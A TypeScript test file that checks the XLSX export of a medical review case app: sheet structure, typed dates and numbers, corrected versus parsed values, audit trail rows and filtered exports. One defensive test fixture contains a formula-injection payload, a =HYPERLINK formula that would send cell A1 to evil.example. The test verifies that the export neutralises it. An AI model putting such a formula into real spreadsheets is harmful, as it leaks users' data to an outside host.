import fs from 'node:fs';
import path from 'node:path';
import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readChainHead } from '../../../backend/audit';
import {
  caseIdOf,
  ok,
  openImportedWorkspace,
  readWorkbook,
  REVIEWER,
  runExport,
  sheetTable,
  type ExportWorkspace,
} from './workspace';
import { IS_CORRECTION_EVENT } from '../../../backend/store/audit-chain';

let ws: ExportWorkspace;
let injectionCase: number;
let pdfCase: number;
let file: string;
let workbook: ExcelJS.Workbook;

const sql = (query: string, ...params: unknown[]) =>
  ws.service.ctx.db
    .prepare(query)
    .pluck()
    .get(...params) as number;

beforeAll(async () => {
  ws = await openImportedWorkspace();
  injectionCase = caseIdOf(ws, 'formula-injection-letter.txt');
  pdfCase = caseIdOf(ws, 'CM16-0230651.pdf');
  const correct = async (caseId: number, change: object, reason?: string) =>
    ok(await ws.service.send('corrections.apply', { caseId, reviewer: REVIEWER, reason, change } as never));
  await correct(injectionCase, { type: 'set-field', path: 'patientAge', value: 53 }, 'letter says 53 on page 2');
  await correct(injectionCase, { type: 'set-field', path: 'items[0].decision', value: 'Overturned' }, 'misread');
  await correct(pdfCase, { type: 'set-field', path: 'decisionDate', value: '2017-01-10' }, 'stamp date');
  await correct(pdfCase, { type: 'set-field', path: 'items[1].quantity', value: 6 });
  await correct(pdfCase, { type: 'add-item', treatment: 'Follow-up visit with the treating physician' });
  await correct(pdfCase, { type: 'set-status', status: 'reviewed' });
  await correct(pdfCase, { type: 'note', text: '-check the UR date with the claims administrator' });

  file = path.join(ws.dir, 'cases.xlsx');
  await runExport(ws, { format: 'xlsx', outPath: file, includeParsedValues: true });
  workbook = await readWorkbook(file);
}, 120_000);

afterAll(() => ws?.close());

describe('XLSX export', () => {
  it('has the four sheets with one row per case, per effective item and per audit event', async () => {
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Cases', 'Items', 'Corrections', 'About']);
    const cases = sql('SELECT COUNT(*) FROM cases');
    const items = sql('SELECT COUNT(*) FROM items'); // the projection of effective items
    // Corrections only: the app's own import events (one per letter) are not reviewers' changes.
    const events = sql(`SELECT COUNT(*) FROM audit_events WHERE ${IS_CORRECTION_EVENT}`);
    expect(cases).toBe(8);
    expect(events).toBe(7);
    expect(sheetTable(workbook, 'Cases').rows).toHaveLength(cases);
    expect(sheetTable(workbook, 'Items').rows).toHaveLength(items);
    expect(sheetTable(workbook, 'Corrections').rows).toHaveLength(events);
  });

  it('writes dates as real dates, counts and ages as numbers', () => {
    const { rows, cell } = sheetTable(workbook, 'Cases');
    const pdfRow = rows.find((r) => cell(r, 'Case ID').value === pdfCase)!;
    const assigned = cell(pdfRow, 'Date assigned');
    expect(assigned.type).toBe(ExcelJS.ValueType.Date);
    expect(assigned.value).toEqual(new Date(Date.UTC(2016, 11, 7)));
    expect(assigned.numFmt).toBe('yyyy-mm-dd');
    expect(cell(pdfRow, 'Patient age').type).toBe(ExcelJS.ValueType.Number);
    expect(cell(pdfRow, 'Patient age').value).toBe(36);
    expect(cell(pdfRow, 'Items').value).toBe(11); // 10 parsed + 1 added by the reviewer
    expect(cell(pdfRow, 'Imported at (UTC)').type).toBe(ExcelJS.ValueType.Date);

    const items = sheetTable(workbook, 'Items');
    for (const row of items.rows) {
      const age = items.cell(row, 'Patient age');
      if (age.value !== null) expect(age.type).toBe(ExcelJS.ValueType.Number);
      expect(items.cell(row, 'Item').type).toBe(ExcelJS.ValueType.Number);
    }
  });

  it('shows effective values, with the parsed value beside each corrected one', () => {
    const cases = sheetTable(workbook, 'Cases');
    const injectionRow = cases.rows.find((r) => cases.cell(r, 'Case ID').value === injectionCase)!;
    expect(cases.cell(injectionRow, 'Patient age').value).toBe(53);
    expect(cases.cell(injectionRow, 'Patient age (parsed)').value).toBe(52);
    expect(cases.cell(injectionRow, 'Patient sex (parsed)').value).toBeNull(); // not corrected: empty
    const pdfRow = cases.rows.find((r) => cases.cell(r, 'Case ID').value === pdfCase)!;
    expect(cases.cell(pdfRow, 'Decision date').value).toEqual(new Date(Date.UTC(2017, 0, 10)));
    expect(cases.cell(pdfRow, 'Decision date (parsed)').value).toEqual(new Date(Date.UTC(2017, 0, 9)));
    expect(cases.cell(pdfRow, 'Review status').value).toBe('reviewed');
    expect(cases.cell(pdfRow, 'Patient age (parsed)').value).toBeNull();

    const items = sheetTable(workbook, 'Items');
    const pdfItems = items.rows.filter((r) => items.cell(r, 'Case ID').value === pdfCase);
    expect(pdfItems).toHaveLength(11);
    // Case key columns are repeated on every item row (effective values).
    for (const row of pdfItems) {
      expect(items.cell(row, 'Case number').value).toBe('CM16-0230651');
      expect(items.cell(row, 'Decision date').value).toEqual(new Date(Date.UTC(2017, 0, 10)));
    }
    const second = pdfItems.find((r) => items.cell(r, 'Item').value === 2)!;
    expect(items.cell(second, 'Quantity').value).toBe(6);
    expect(items.cell(second, 'Corrected').value).toBe('Yes');
    const added = pdfItems.find(
      (r) => items.cell(r, 'Treatment').value === 'Follow-up visit with the treating physician',
    );
    expect(added).toBeDefined();
    expect(items.cell(added!, 'Corrected').value).toBe('Yes');
    const untouched = pdfItems.find((r) => items.cell(r, 'Item').value === 1)!;
    expect(items.cell(untouched, 'Corrected').value).toBe('No');
    expect(items.cell(untouched, 'Decision (parsed)').value).toBeNull();

    const injectionItem = items.rows.find((r) => items.cell(r, 'Case ID').value === injectionCase)!;
    expect(items.cell(injectionItem, 'Decision').value).toBe('Overturned');
    expect(items.cell(injectionItem, 'Decision (parsed)').value).toBe('Upheld');
    expect(items.cell(injectionItem, 'Patient age').value).toBe(53);
  });

  it('lists the audit trail with reviewer, values, reason and hash', () => {
    const { rows, cell } = sheetTable(workbook, 'Corrections');
    const age = rows.find((r) => cell(r, 'Path').value === 'patientAge')!;
    expect(cell(age, 'Reviewer').value).toBe(REVIEWER);
    expect(cell(age, 'Type').value).toBe('set-field');
    expect(cell(age, 'Old value').value).toBe(52);
    expect(cell(age, 'New value').value).toBe(53);
    expect(cell(age, 'Reason').value).toBe('letter says 53 on page 2');
    expect(cell(age, 'Hash').value).toMatch(/^[0-9a-f]{64}$/);
    expect(cell(age, 'Time (UTC)').type).toBe(ExcelJS.ValueType.Date);
    const ids = rows.map((r) => cell(r, 'Event ID').value);
    // Events 1–8 are the eight letters' imports.
    expect(ids).toEqual([9, 10, 11, 12, 13, 14, 15]);
    // A note starting with "-" is text, so it is made inert like any other text.
    const note = rows.find((r) => cell(r, 'Type').value === 'note')!;
    expect(cell(note, 'New value').value).toBe("'-check the UR date with the claims administrator");
  });

  it('writes a treatment starting with =HYPERLINK( as inert text, never as a formula', async () => {
    const items = sheetTable(workbook, 'Items');
    const row = items.rows.find((r) => items.cell(r, 'Case ID').value === injectionCase)!;
    const treatment = items.cell(row, 'Treatment');
    expect(treatment.type).toBe(ExcelJS.ValueType.String);
    expect(treatment.formula).toBeUndefined();
    expect(treatment.value).toBe(
      '\'=HYPERLINK("http://evil.example/steal?d="&A1,"Acupuncture 2 times a week for 6 weeks"), QTY: 12',
    );
    // And in the raw sheet XML: no formula element anywhere in the workbook.
    for (const xml of sheetXmls(file)) expect(xml).not.toMatch(/<f[ >]/);
  });

  it('freezes the header row, turns the autofilter on, sizes and wraps columns', () => {
    for (const name of ['Cases', 'Items', 'Corrections']) {
      const sheet = workbook.getWorksheet(name)!;
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(sheet.autoFilter).toBeTruthy();
      expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    }
    const items = sheetTable(workbook, 'Items');
    const rationale = items.headers.get('Rationale')!;
    expect(items.sheet.getColumn(rationale).width).toBeGreaterThanOrEqual(60);
    expect(items.cell(items.rows[0]!, 'Rationale').alignment?.wrapText).toBe(true);
    expect(items.sheet.getColumn(items.headers.get('Item')!).width).toBeLessThan(15);
  });

  it('records export time, versions, scope, counts and the audit chain head in About', () => {
    const about = new Map<string, unknown>();
    workbook.getWorksheet('About')!.eachRow((row, n) => {
      if (n > 1) about.set(String(row.getCell(1).value), row.getCell(2).value);
    });
    expect(about.get('Exported at (UTC)')).toBeInstanceOf(Date);
    expect(about.get('App version')).toMatch(/^IMR Workbench \d+\.\d+\.\d+/);
    expect(about.get('Parser version')).toMatch(/\d+\.\d+\.\d+/);
    expect(about.get('Cases exported')).toBe('All cases');
    expect(about.get('Cases')).toBe(8);
    expect(about.get('Items')).toBe(sql('SELECT COUNT(*) FROM items'));
    expect(about.get('Corrections (audit events)')).toBe(7);
    expect(about.get('Audit chain head (hash)')).toBe(readChainHead(ws.service.ctx.db)!.lastHash);
  });

  it('exports the current filter or a selection only, and says so in About', async () => {
    const filtered = path.join(ws.dir, 'overturned.xlsx');
    const result = await runExport(ws, { format: 'xlsx', outPath: filtered, filter: { decision: 'Overturned' } });
    const expected = ws.service.ctx.db
      .prepare("SELECT DISTINCT case_id FROM items WHERE decision = 'Overturned' ORDER BY case_id")
      .pluck()
      .all() as number[];
    expect(expected.length).toBeGreaterThan(0);
    expect(expected.length).toBeLessThan(8);
    const book = await readWorkbook(filtered);
    const cases = sheetTable(book, 'Cases');
    expect(cases.rows.map((r) => cases.cell(r, 'Case ID').value)).toEqual(expected);
    expect(result.cases).toBe(expected.length);
    const about = book.getWorksheet('About')!;
    let scope: unknown;
    about.eachRow((row) => {
      if (row.getCell(1).value === 'Cases exported') scope = row.getCell(2).value;
    });
    expect(scope).toBe('filter: Decision: Overturned');
    // Only the audit events of the exported cases.
    const events = sheetTable(book, 'Corrections').rows.length;
    expect(events).toBe(
      sql(`SELECT COUNT(*) FROM audit_events WHERE ${IS_CORRECTION_EVENT} AND case_id IN (${expected.join(',')})`),
    );

    const selected = path.join(ws.dir, 'selected.xlsx');
    const selection = await runExport(ws, { format: 'xlsx', outPath: selected, caseIds: [pdfCase] });
    expect(selection).toMatchObject({ cases: 1, items: 11, corrections: 5 });
    const selectedItems = sheetTable(await readWorkbook(selected), 'Items');
    expect(new Set(selectedItems.rows.map((r) => selectedItems.cell(r, 'Case ID').value))).toEqual(new Set([pdfCase]));

    // A selection within a filter: the selected cases that match it.
    const both = await runExport(ws, {
      format: 'csv',
      outPath: path.join(ws.dir, 'both.csv'),
      caseIds: [pdfCase, injectionCase],
      filter: { decision: 'Overturned' },
    });
    expect(both.cases).toBe(1); // only the injection letter has an overturned item (its corrected decision)
    expect(both.items).toBe(1);
  });

  it('without parsed values, has no "(parsed)" columns', async () => {
    const plain = path.join(ws.dir, 'plain.xlsx');
    await runExport(ws, { format: 'xlsx', outPath: plain });
    const book = await readWorkbook(plain);
    for (const name of ['Cases', 'Items']) {
      expect([...sheetTable(book, name).headers.keys()].some((h) => h.endsWith('(parsed)'))).toBe(false);
    }
  });

  it('without a chosen file, keeps a timestamped file for one download, then removes it', async () => {
    const result = await runExport(ws, { format: 'xlsx' });
    const [file] = result.files;
    expect(file).toMatchObject({ path: null, downloadId: expect.any(String) });
    expect(file!.name).toMatch(/^imr-export-\d{4}-\d{2}-\d{2}_\d{2}-\d{2}-\d{2}\.xlsx$/);
    const waiting = ws.service.files.download(file!.downloadId!)!;
    expect(waiting).toMatchObject({ name: file!.name, bytes: file!.bytes });
    // Kept in the service's owner-only folder, not beside the workspace.
    expect(waiting.path.startsWith(ws.service.ctx.privateDir.dir)).toBe(true);
    expect(fs.statSync(waiting.path).mode & 0o777).toBe(0o600);
    expect((await readWorkbook(waiting.path)).getWorksheet('Cases')).toBeDefined();
    ws.service.files.downloaded(file!.downloadId!);
    expect(fs.existsSync(waiting.path)).toBe(false);
    expect(ws.service.files.download(file!.downloadId!)).toBeNull();
  });
});

/** Every worksheet's XML, read straight from the zip (stored or deflated entries). */
function sheetXmls(xlsxFile: string): string[] {
  const zip = fs.readFileSync(xlsxFile);
  const out: string[] = [];
  // Walk the central directory: sizes in local headers are zero when data descriptors are used.
  const eocd = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const entries = zip.readUInt16LE(eocd + 10);
  let at = zip.readUInt32LE(eocd + 16);
  for (let i = 0; i < entries; i++) {
    const method = zip.readUInt16LE(at + 10);
    const compressedSize = zip.readUInt32LE(at + 20);
    const nameLength = zip.readUInt16LE(at + 28);
    const extraLength = zip.readUInt16LE(at + 30);
    const commentLength = zip.readUInt16LE(at + 32);
    const localHeader = zip.readUInt32LE(at + 42);
    const name = zip.toString('utf8', at + 46, at + 46 + nameLength);
    if (/worksheets\/sheet\d+\.xml$/.test(name)) {
      const localNameLength = zip.readUInt16LE(localHeader + 26);
      const localExtraLength = zip.readUInt16LE(localHeader + 28);
      const start = localHeader + 30 + localNameLength + localExtraLength;
      const data = zip.subarray(start, start + compressedSize);
      out.push((method === 8 ? inflateRawSync(data) : data).toString('utf8'));
    }
    at += 46 + nameLength + extraLength + commentLength;
  }
  if (out.length === 0) throw new Error('no worksheets found in the zip');
  return out;
}
